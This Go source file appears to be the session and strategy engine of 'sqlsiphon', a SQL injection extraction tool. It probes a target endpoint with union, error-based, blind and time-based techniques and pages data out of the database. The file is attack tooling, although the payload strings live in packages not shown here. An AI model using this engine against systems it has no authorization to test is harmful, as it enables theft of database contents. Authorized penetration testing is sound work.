package engine

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"

	"github.com/google/uuid"

	"github.com/0x6d61/sqlsiphon/internal/calibrate"
	"github.com/0x6d61/sqlsiphon/internal/dialect"
	"github.com/0x6d61/sqlsiphon/internal/extract"
	"github.com/0x6d61/sqlsiphon/internal/oracle"
	"github.com/0x6d61/sqlsiphon/internal/payload"
	"github.com/0x6d61/sqlsiphon/internal/session"
	"github.com/0x6d61/sqlsiphon/internal/strategy"
)

// Session is the extraction state of one endpoint. It is not safe for
// concurrent use: concurrent operations each work on a Fork.
type Session struct {
	ID          string
	Endpoint    string
	Dialect     *dialect.Descriptor
	Builder     *payload.Builder
	Strategy    strategy.Strategy
	Calibration *calibrate.Result
	Cursor      extract.Window

	oracle oracle.Oracle // blind or time
	cache  *extract.Cache
	memo   *calibrations
}

func newSession(endpoint string, d *dialect.Descriptor, opts ...payload.BuilderOption) *Session {
	return &Session{
		ID:       uuid.New().String(),
		Endpoint: endpoint,
		Dialect:  d,
		Builder:  payload.NewBuilder(d, opts...),
		memo:     &calibrations{byFields: make(map[int]*calibrate.Result)},
	}
}

// Fork returns a copy of s with its own cursor. The copy shares the
// oracle, the answer cache and the calibrations of s.
func (s *Session) Fork() *Session {
	c := *s
	c.Cursor = extract.Window{}
	return &c
}

// calibrations memoizes calibration results by field count.
type calibrations struct {
	mu       sync.Mutex
	byFields map[int]*calibrate.Result
}

func (c *calibrations) get(fields int) (*calibrate.Result, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	r, ok := c.byFields[fields]
	return r, ok
}

func (c *calibrations) put(r *calibrate.Result) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.byFields[r.Fields] = r
}

var errNoReflection = errors.New("no error method reflects the marker")

// tester probes the target for each strategy of s. Accepted strategies
// leave their calibration or oracle on s.
func (in *Injector) tester(s *Session) strategy.Tester {
	return strategy.TesterFunc(func(ctx context.Context, k strategy.Kind) (strategy.Strategy, error) {
		switch k {
		case strategy.Normal:
			res, err := calibrate.Discover(ctx, in.prober, s.Builder, in.cfg.MaxFields, in.logger)
			if err != nil {
				return strategy.Strategy{}, err
			}
			s.memo.put(res)
			s.Calibration = res
			return strategy.Strategy{Kind: k, Capacity: res.Capacity}, nil

		case strategy.Error:
			m, err := in.errorMethod(ctx, s)
			if err != nil {
				return strategy.Strategy{}, err
			}
			return strategy.Strategy{Kind: k, Capacity: m.Capacity, Method: m}, nil

		case strategy.Blind:
			o := oracle.NewBlind(in.prober, s.Builder)
			if in.cfg.BlindThreshold > 0 {
				o.SetMinRatio(in.cfg.BlindThreshold)
			}
			if err := o.Calibrate(ctx); err != nil {
				return strategy.Strategy{}, err
			}
			s.oracle = o
			return strategy.Strategy{Kind: k, Capacity: dialect.SearchCapacity}, nil

		case strategy.Time:
			o := oracle.NewTime(in.prober, s.Builder)
			if err := o.Calibrate(ctx); err != nil {
				return strategy.Strategy{}, err
			}
			s.oracle = o
			return strategy.Strategy{Kind: k, Capacity: dialect.SearchCapacity}, nil
		}
		return strategy.Strategy{}, fmt.Errorf("strategy %v: %w", k, payload.ErrUnsupported)
	})
}

// errorMethod returns the first error method whose page shows the lead
// followed by the marker of index 0.
func (in *Injector) errorMethod(ctx context.Context, s *Session) (*dialect.ErrorMethod, error) {
	want := s.Builder.Atom(dialect.Lead) + payload.Marker(0)
	for i := range s.Dialect.Strategy.Error {
		m := &s.Dialect.Strategy.Error[i]
		q, err := s.Builder.ErrorTest(*m)
		if err != nil {
			return nil, err
		}
		resp, err := in.prober.Probe(ctx, q)
		if err != nil {
			return nil, fmt.Errorf("error method %s: %w", m.Name, err)
		}
		if strings.Contains(oracle.VisibleText(resp.Body, want), want) {
			in.logger.Debug("error method reflects", "method", m.Name)
			return m, nil
		}
	}
	return nil, errNoReflection
}

// resume restores the stored session of s's endpoint and vendor. It
// reports false when there is nothing usable to resume.
func (in *Injector) resume(ctx context.Context, s *Session, sel *strategy.Selector) (bool, error) {
	if in.store == nil {
		return false, nil
	}
	state, err := in.store.Load(ctx, s.Endpoint, s.Dialect.Name)
	if err != nil {
		return false, err
	}
	if state == nil {
		return false, nil
	}
	kinds, err := strategy.ParseKinds(state.Strategy)
	if err != nil || len(kinds) != 1 || !slices.Contains(in.candidates(s.Dialect), kinds[0]) {
		in.logger.Info("stored session not resumable", "session", state.ID, "strategy", state.Strategy)
		return false, nil
	}

	st := strategy.Strategy{Kind: kinds[0], Capacity: state.Capacity}
	switch st.Kind {
	case strategy.Normal:
		res := &calibrate.Result{
			Fields:   state.Fields,
			Visible:  state.Visible,
			Best:     state.Best,
			Query:    state.Query,
			Capacity: state.Capacity,
		}
		if res.Query == "" || res.Best == 0 {
			return false, nil
		}
		s.memo.put(res)
		s.Calibration = res
	case strategy.Error:
		i := slices.IndexFunc(s.Dialect.Strategy.Error, func(m dialect.ErrorMethod) bool { return m.Name == state.Method })
		if i < 0 {
			return false, nil
		}
		st.Method = &s.Dialect.Strategy.Error[i]
	default:
		// reference pages are not stored: the oracle is calibrated again
		if _, err := in.tester(s).Test(ctx, st.Kind); err != nil {
			var cfgErr *dialect.ConfigError
			if errors.As(err, &cfgErr) || ctx.Err() != nil {
				return false, err
			}
			in.logger.Info("stored strategy no longer works", "strategy", st.Kind.String(), "error", err)
			return false, nil
		}
	}

	s.ID = state.ID
	s.Strategy = st
	sel.Restore(st)
	in.logger.Info("session resumed", "session", s.ID, "strategy", st.String())
	return true, nil
}

// save stores the state of s. Store failures are logged, not returned:
// persistence never stops an extraction.
func (in *Injector) save(ctx context.Context, s *Session) {
	if in.store == nil {
		return
	}
	state := &session.State{
		ID:       s.ID,
		Endpoint: s.Endpoint,
		Vendor:   s.Dialect.Name,
		Strategy: s.Strategy.Kind.String(),
		Capacity: s.Strategy.Capacity,
	}
	if s.Strategy.Method != nil {
		state.Method = s.Strategy.Method.Name
	}
	if c := s.Calibration; c != nil && s.Strategy.Kind == strategy.Normal {
		state.Fields, state.Visible, state.Best, state.Query = c.Fields, c.Visible, c.Best, c.Query
	}
	if old, err := in.store.LoadByID(ctx, s.ID); err == nil && old != nil {
		state.CreatedAt = old.CreatedAt
	}
	if err := in.store.Save(ctx, state); err != nil {
		in.logger.Warn("session not saved", "session", s.ID, "error", err)
	}
}

// record queues records for the store of the session.
func (in *Injector) record(s *Session, recs ...session.Record) {
	if in.store == nil {
		return
	}
	id := s.ID
	in.events.push(func() {
		if err := in.store.Append(context.Background(), id, recs...); err != nil {
			in.logger.Warn("records not saved", "session", id, "error", err)
		}
	})
}

// pager returns the reader and the page function reading query with the
// strategy of s.
func (in *Injector) pager(s *Session, query string) (*extract.Reader, extract.PageFunc, error) {
	r := &extract.Reader{
		Lead:     s.Builder.Atom(dialect.Lead),
		Trail:    s.Builder.Atom(dialect.TrailSQL),
		Capacity: s.Strategy.Capacity,
		Retries:  in.cfg.Retries,
	}
	read := oracle.NewReader(in.prober, r.Lead).Read

	switch s.Strategy.Kind {
	case strategy.Normal:
		cal := s.Calibration
		if cal == nil {
			return nil, nil, fmt.Errorf("normal strategy: %w", calibrate.ErrNoVisibleIndex)
		}
		r.Capacity = cal.Capacity
		render := func(start int) (string, error) {
			w, err := s.Builder.Window(query, start, cal.Capacity)
			if err != nil {
				return "", err
			}
			return s.Builder.Normal(cal.Query, cal.Best, w), nil
		}
		return r, extract.Pages(s.cache, render, read), nil

	case strategy.Error:
		m := *s.Strategy.Method
		render := func(start int) (string, error) {
			return s.Builder.Error(m, query, start)
		}
		return r, extract.Pages(s.cache, render, read), nil

	case strategy.Blind, strategy.Time:
		if s.oracle == nil {
			return nil, nil, fmt.Errorf("%s strategy: oracle not calibrated", s.Strategy.Kind)
		}
		threads := in.cfg.Threads
		if s.Strategy.Kind == strategy.Time {
			// concurrent delays would read as true
			threads = 1
		}
		srch := &extract.Searcher{
			Oracle:    s.oracle,
			Builder:   s.Builder,
			Threads:   threads,
			Retries:   in.cfg.Retries,
			MaxLength: in.cfg.MaxLength,
			Cache:     s.cache,
			Logger:    in.logger,
		}
		r.Capacity = dialect.SearchCapacity
		return r, srch.Page(query), nil
	}
	return nil, nil, fmt.Errorf("strategy %v: %w", s.Strategy.Kind, payload.ErrUnsupported)
}

// value reads the whole value of query from the start, and whether it
// ended on the trail.
func (in *Injector) value(ctx context.Context, s *Session, query string) (string, bool, error) {
	r, page, err := in.pager(s, query)
	if err != nil {
		return "", false, err
	}
	s.Cursor.Reset()
	return r.Read(ctx, &s.Cursor, page)
}
